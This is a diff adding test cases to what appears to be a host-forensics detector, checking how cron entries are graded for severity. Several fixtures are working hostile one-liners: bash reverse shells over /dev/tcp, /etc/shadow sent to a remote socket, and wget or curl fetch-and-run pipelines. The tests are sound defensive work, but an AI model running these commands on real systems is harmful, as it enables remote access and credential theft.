@@ -121,6 +121,29 @@ test("sshd-library-backdoor: Ebury's file names, a libkeyutils keyutils never sh
   t.same(findings(sshd("/usr/lib/x86_64-linux-gnu/security/pam_x.so")), [], "PAM modules are pam-backdoor's");
 });
 
+test("suspicious-cron: a /dev/tcp port check is weak, a shell on /dev/tcp strong; a fetch-and-run weighed by its source", async (t) => {
+  const cron = (command: string) => run("suspicious-cron", host({ crontab: [{ command, path: "/etc/cron.d/job" }] }));
+  const probe = cron("nagios /bin/bash -c 'echo > /dev/tcp/10.40.2.15/5432' 2>/dev/null || /usr/local/bin/notify-down pg");
+  t.equal(probe.length, 1, "a port check is still reported");
+  t.equal(probe[0]?.severity, undefined, "at the default (medium), not high");
+  t.match(probe[0]?.summary, /port check/);
+  t.equal(cron("root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")[0]?.severity, "high", "a shell's output and input on the socket");
+  t.equal(cron("root cat /etc/shadow > /dev/tcp/203.0.113.7/80")[0]?.severity, "high", "a file sent down the socket");
+  t.equal(cron("root sh -i < /dev/tcp/203.0.113.7/9")[0]?.severity, "high", "a shell reading the socket");
+  const vendor = cron("root /usr/bin/wget -q -O /tmp/update.sh https://updates.example-retail.com/kiosk/update.sh && /bin/sh /tmp/update.sh");
+  t.equal(vendor[0]?.severity, "low", "fetched over HTTPS from a named host and run from /tmp: low");
+  t.equal(cron("root /usr/bin/wget -q -O /tmp/u.sh http://198.51.100.4/u.sh && /bin/sh /tmp/u.sh")[0]?.severity, "high", "the same from a plain-HTTP address");
+  t.equal(cron("root wget -q -O /tmp/.u https://updates.example-retail.com/u && sh /tmp/.u")[0]?.severity, "low", "hidden in /tmp is the same signal, weighed by its source");
+  t.equal(cron("root curl -fsSL https://updates.example-retail.com/u | base64 -d | sh")[0]?.severity, "high", "a strong signal keeps it high");
+});
+
+test("ioc-match: bash's /dev/tcp named in a question is a technique, not an indicator", async (t) => {
+  const h = host({ crontab: [{ command: "nagios bash -c 'echo > /dev/tcp/10.0.0.5/5432'", path: "/etc/cron.d/check" }] });
+  const ioc = byId.get("ioc-match");
+  t.same(findings(ioc?.evaluate(h, { entities: entities({ paths: ["/dev/tcp"] }) }) ?? []), []);
+  t.equal(findings(ioc?.evaluate(h, { entities: entities({ paths: ["/dev/tcp/10.0.0.5/5432"] }) }) ?? []).length, 1, "a specific socket named still is");
+});
+
 test("listeners: a default port only when its default program holds it", async (t) => {
   const rows = (pid: number, port: number) => ({ pid: String(pid), port: String(port), protocol: "6", address: "0.0.0.0" });
   const shellOn9100 = run("unexpected-listener", host({ listening_ports: [rows(5, 9100)], processes: [proc(5, "bash", "/usr/bin/bash", "bash")] }));
